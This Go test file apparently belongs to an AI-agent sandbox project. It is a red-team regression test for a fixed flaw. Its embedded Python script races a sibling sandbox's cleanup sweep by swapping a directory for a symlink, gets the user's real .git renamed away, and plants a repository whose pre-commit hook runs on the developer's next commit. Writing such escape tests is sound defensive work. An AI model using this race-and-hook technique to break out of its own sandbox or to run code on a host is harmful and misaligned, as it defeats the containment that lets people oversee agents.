//go:build linux

package agentbox_test

import (
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/agentbox-dev/agentbox"
)

// rt16SwapScript runs in sandbox B. It watches (inotify, IN_OPEN) the
// directory aaa of the shared writable root W, which only agentbox's
// repository scans list. Once the other sandbox's command has ended (it
// made W/go), the next listing of aaa is that sandbox's post-run sweep:
// B then replaces the empty directory sub, which the sweep has just seen
// as a directory, with a link to W itself. The sweep lists W/sub (that is
// W), takes W/sub/.git (the user's own repository, which has a hook) for
// a repository the command planted, and quarantines it through an os.Root
// that follows the link, as it stays inside W.
const rt16SwapScript = `
import ctypes, os, sys, time, select
W = sys.argv[1]
libc = ctypes.CDLL(None, use_errno=True)
fd = libc.inotify_init1(0o4000)
if libc.inotify_add_watch(fd, (W + "/aaa").encode(), 0x20) < 0:
    print("watch failed"); sys.exit(3)
print("ready", flush=True)
open(W + "/ready", "w").close()
deadline = time.time() + 15
while not os.path.exists(W + "/go"):
    if time.time() > deadline: print("no go"); sys.exit(4)
    time.sleep(0.002)
try:
    while True: os.read(fd, 65536)
except BlockingIOError:
    pass
select.select([fd], [], [], 10)
os.rename(W + "/sub", W + "/sub.real")
os.symlink(".", W + "/sub")
print("swapped", flush=True)
# The user's .git, held read-only here, may now be gone from its name:
# plant a repository of the attacker's there.
for _ in range(500):
    if os.path.exists(W + "/.git.agentbox-quarantine"): break
    time.sleep(0.01)
try:
    import subprocess
    subprocess.run(["/usr/bin/git", "init", "-q", W], check=True)
    h = W + "/.git/hooks/pre-commit"
    open(h, "w").write("#!/bin/sh\ntouch " + W + "/PWNED\n")
    os.chmod(h, 0o755)
    print("planted", flush=True)
except Exception as e:
    print("plant refused:", e, flush=True)
`

// TestRedteam16QuarantineThroughSwappedDir: two sandboxes on one writable
// root. The attacker (B) makes the other's post-run planted-repository
// sweep rename the user's own .git (read-only in both sandboxes) away,
// then plants a .git of its own, which its own sweep keeps (a .git
// that existed before is not "new"). Control: the user's repository is
// intact when nothing is swapped, and a repository the command planted in
// a subdirectory is quarantined.
//
// Fixed: the sweep lists and renames through directories opened beneath
// the root without following links (scanAccess.list, quarantine), and a
// repository's key holds its file's identity (repoKey), so a .git put in
// the place of another is new.
func TestRedteam16QuarantineThroughSwappedDir(t *testing.T) {
	w := hostDir(t)
	if err := os.Chmod(w, 0o777); err != nil {
		t.Fatal(err)
	}
	gitDir := filepath.Join(w, ".git")
	if out, err := exec.Command("git", "init", "-q", w).CombinedOutput(); err != nil {
		t.Fatalf("git init: %v %s", err, out)
	}
	hook := filepath.Join(gitDir, "hooks", "pre-commit")
	if err := os.WriteFile(hook, []byte("#!/bin/sh\nexit 0\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	for _, d := range []string{"aaa", "sub"} {
		if err := os.Mkdir(filepath.Join(w, d), 0o777); err != nil {
			t.Fatal(err)
		}
		os.Chmod(filepath.Join(w, d), 0o777)
	}
	// Padding the scan lists between aaa and sub, giving B its moment.
	for i := range 400 {
		d := filepath.Join(w, "ab"+strings.Repeat("0", 3-len(itoa(i)))+itoa(i))
		if err := os.Mkdir(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	script := filepath.Join(w, "swap.py")
	if err := os.WriteFile(script, []byte(rt16SwapScript), 0o644); err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 40*time.Second)
	defer cancel()
	mA, mB := newManager(t, agentbox.CIConfig()), newManager(t, agentbox.CIConfig())

	var wg sync.WaitGroup
	var resB *agentbox.ExecResult
	var errB error
	wg.Add(1)
	go func() {
		defer wg.Done()
		resB, errB = mB.ExecArgs(ctx, "/usr/bin/python3", []string{script, w},
			agentbox.WithWritableRoots(w), agentbox.WithTimeout(30*time.Second))
	}()
	for i := 0; ; i++ {
		if _, err := os.Stat(filepath.Join(w, "ready")); err == nil {
			break
		}
		if i > 1500 {
			wg.Wait()
			t.Fatalf("sandbox B never got ready: %v %+v", errB, resB)
		}
		time.Sleep(10 * time.Millisecond)
	}
	// The innocent sandbox A: ordinary work, ending while B runs; it also
	// plants a repository with a hook in lib (the control: quarantined).
	resA, err := mA.Exec(ctx, "mkdir -p lib/.git/hooks lib/.git/objects lib/.git/refs && echo 'ref: refs/heads/main' > lib/.git/HEAD && printf '#!/bin/sh\\n' > lib/.git/hooks/post-checkout && touch go && sleep 0.3",
		agentbox.WithWritableRoots(w), agentbox.WithWorkingDir(w))
	if err != nil {
		t.Fatal(err)
	}
	wg.Wait()
	if errB != nil {
		t.Fatal(errB)
	}
	t.Logf("A: exit %d %q violations %+v", resA.ExitCode, resA.Stderr, resA.Violations)
	t.Logf("B: exit %d out %q err %q violations %+v", resB.ExitCode, resB.Stdout, resB.Stderr, resB.Violations)
	if resA.ExitCode != 0 {
		t.Fatalf("control: A failed: %+v", resA)
	}
	if q, _ := filepath.Glob(filepath.Join(w, "lib", ".git.agentbox-quarantine*")); len(q) == 0 {
		t.Errorf("control: the repository A planted in lib was not quarantined")
	}
	if _, err := os.Lstat(filepath.Join(w, ".git.agentbox-quarantine")); err == nil {
		t.Errorf("ESCAPE: agentbox (A's sweep) renamed the user's own %s, read-only in both sandboxes, to .git.agentbox-quarantine through a directory B swapped for a link", gitDir)
	}
	if b, err := os.ReadFile(filepath.Join(gitDir, "hooks", "pre-commit")); err != nil || string(b) != "#!/bin/sh\nexit 0\n" {
		t.Errorf("ESCAPE: %s is now the attacker's (hook %q, %v)", gitDir, b, err)
	}
	// The developer's next commit on the host runs whatever hook is there.
	out, _ := exec.Command("git", "-c", "safe.directory=*", "-c", "user.name=u", "-c", "user.email=u@example.invalid",
		"-C", w, "commit", "-q", "--allow-empty", "-m", "x").CombinedOutput()
	if _, err := os.Stat(filepath.Join(w, "PWNED")); err == nil {
		t.Errorf("ESCAPE: the developer's next git commit ran the attacker's hook (%s)", out)
	}
}

func itoa(i int) string {
	const digits = "0123456789"
	if i < 10 {
		return digits[i : i+1]
	}
	return itoa(i/10) + digits[i%10:i%10+1]
}
